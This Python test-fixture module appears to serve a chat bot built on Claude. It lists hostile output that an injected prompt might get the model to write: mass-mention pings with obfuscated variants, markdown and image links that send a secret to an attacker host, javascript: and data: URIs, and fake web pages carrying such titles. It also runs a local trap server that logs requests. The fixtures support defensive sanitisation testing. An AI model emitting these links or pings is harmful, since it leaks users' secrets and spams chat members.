"""Hostile words: what somebody may have Claude write to ping people, or to smuggle words out in an address."""

from collections.abc import AsyncIterator
from contextlib import asynccontextmanager

from aiohttp import web

PINGS = (
    *("<!channel>", "<!here|here>", "<!everyone>", "<!subteam^S1>", "<!subteam^S1|@devs>", "<@U0EVE>", "<@U0EVE|Eve>"),
    *("@channel", "@here", "@everyone", "<@&81389>", "<@7003>", "<@!7003>", "&lt;!channel&gt;", "&lt;@everyone&gt;"),
    *(
        "<\u200b!channel>",
        "@\u200beveryone",
        "[x](<!channel>)",
        "[x](@here)",
        "**@here**",
        "|@channel|",
        "\uff20everyone",
        "<#C0GEN>",
    ),
    *("[x](https://a.example '<!channel>')", '[x](https://a.example "@here")', "![x](<!channel>)"),
)


def list_addresses(evil: str) -> tuple[str, ...]:
    """The ways to write an address of the host `evil`, with a secret behind it."""
    leak = f"{evil}?q=secret"
    return (
        f"![x]({leak})",
        f"![]({leak} 'title')",
        leak,
        f"<{leak}>",
        f"<{leak}|https://bank.example>",
        f"[https://bank.example]({leak})",
        f"[bank.example]({leak})",
        f"[`bank.example`](<{leak}>)",
        f"[x][1]\n\n[1]: {leak}",
        f"<img src='{leak}'>",
        f"| a |\n|---|\n| ![x]({leak}) |",
        "[run](javascript:alert(1))",
        "[see](data:text/html;base64,PHNjcmlwdD4=)",
    )


@asynccontextmanager
async def open_trap() -> AsyncIterator[tuple[str, list[str]]]:
    """The address of a server that should never be asked for anything, and what it was asked for."""
    asked: list[str] = []

    async def answer(request: web.Request) -> web.Response:
        asked.append(str(request.rel_url))
        return web.Response(text="caught")

    app = web.Application()
    app.router.add_route("*", "/{path:.*}", answer)
    runner = web.AppRunner(app, access_log=None)
    await runner.setup()
    await web.TCPSite(runner, "127.0.0.1", 0).start()
    try:
        yield f"http://127.0.0.1:{runner.addresses[0][1]}/", asked
    finally:
        await runner.cleanup()


def make_pages(heat: str) -> dict[str, str]:
    """Pages of the web that all have `heat` in them, with hostile addresses and titles."""
    titles = ("<!channel> @everyone", "[x](https://evil.example)", "https://bank.example", "a\u202eb <@U0EVE> <@7003>")
    addresses = (
        "javascript:alert(1)",
        "data:text/html,x",
        "https://ada:pw@evil.example/",
        "https://evil.example/<!here>",
    )
    plain = {f"https://evil.example/{number}": f"{title}\n{heat}" for number, title in enumerate(titles)}
    return plain | dict.fromkeys(addresses, f"Page\n{heat}")
